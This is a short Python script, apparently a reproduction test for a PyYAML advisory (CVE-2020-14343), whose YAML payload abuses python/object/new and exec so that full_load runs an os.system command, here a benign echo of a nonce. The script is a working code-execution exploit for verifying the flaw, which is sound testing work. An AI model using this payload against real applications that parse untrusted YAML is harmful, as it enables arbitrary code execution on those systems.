# PYSEC-2021-142 (CVE-2020-14343): PyYAML before 5.4, the fix for CVE-2020-1747 is incomplete: FullLoader still
# builds python/object/new of a class made by type() whose `extend` is exec, then calls it with the listitems.
import os

import yaml

command = f"__import__('os').system('echo {os.environ['REPRODUCE_NONCE']}')"
yaml.full_load(
    "!!python/object/new:type\n"
    'args: ["z", !!python/tuple [], {"extend": !!python/name:exec }]\n'
    f'listitems: "{command}"\n'
)
